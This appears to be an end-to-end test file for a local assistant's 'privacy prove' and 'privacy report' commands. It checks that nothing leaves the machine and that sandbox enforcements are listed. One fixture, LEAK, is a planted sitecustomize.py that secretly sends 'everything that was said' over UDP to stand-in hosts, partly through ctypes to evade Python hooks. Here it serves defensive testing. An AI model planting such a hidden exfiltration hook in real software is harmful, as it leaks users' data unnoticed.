"""`edged privacy`: the proof as an administrator runs it, and what it says where something leaves."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.e2e.program import Home, require_namespaces

LEAK = """
import ctypes, socket, struct, sys, threading

def phone_home():
    # In C, where Python sees nothing of it.
    libc = ctypes.CDLL(None)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 53) + socket.inet_aton("192.0.2.10") + bytes(8)
    libc.sendto(libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0), b"said", 4, 0, address, len(address))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"everything that was said", ("192.0.2.9", 53))

if "serve" in sys.orig_argv:
    timer = threading.Timer(2, phone_home)
    timer.daemon = True
    timer.start()
"""
"""Part of every Python that starts: a dependency with a mind of its own."""
OUTSIDE = ("UDP to 192.0.2.9 port 53", "UDP to 192.0.2.10 port 53")


def test_nothing_leaves_in_all_main_uses(home: Home) -> None:
    require_namespaces("-rn")
    before = sorted(home.folder.rglob("*"))
    done = home.run("privacy", "prove", "--json", EDGED_VOICE__VOICE="espeak")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["packets_out"] == 0 and result["packets"] == {} and result["refused_connections"] == 0
    assert {"text", "history", "recording", "voice", "HTTP", "device on the LAN"} <= set(result["uses"])
    assert sorted(home.folder.rglob("*")) == before  # nothing of the user's was touched


@pytest.mark.parametrize("is_guarded", [True, False])
def test_a_daemon_that_phones_home_is_found_out(home: Home, tmp_path: Path, is_guarded: bool) -> None:
    """The guard stops it and counts the attempt; without the guard, the packet itself is counted."""
    require_namespaces("-rn")
    (tmp_path / "sitecustomize.py").write_text(LEAK)
    guard = str(is_guarded).lower()
    done = home.run("privacy", "prove", "--json", PYTHONPATH=str(tmp_path), EDGED_PRIVACY__SANDBOX=guard)
    result = json.loads(done.stdout)
    assert result["refused_connections"] == (1 if is_guarded else 0)
    assert result["packets"] == ({} if is_guarded else dict.fromkeys(OUTSIDE, 1))
    assert done.returncode == (0 if is_guarded else 1)


def test_the_report_says_what_is_enforced(home: Home) -> None:
    with home.daemon():
        done = home.run("privacy", "report", "--json")
        assert done.returncode == 0, done.stderr
        told = json.loads(done.stdout)
        lines = home.run("privacy", "report").stdout
    assert {item["name"] for item in told["enforcements"]} == {
        "telemetry off",
        "no core files",
        "landlock",
        "landlock files",
        "seccomp",
        "audit hook",
    }
    assert told["store"]["encrypted"] and told["microphone"] == "closed"
    assert "0 connections of Python code refused" in lines and "microphone closed" in lines


def test_without_a_daemon_there_is_nothing_to_report(home: Home) -> None:
    done = home.run("privacy", "report")
    assert done.returncode == 1 and "edged serve" in done.stderr
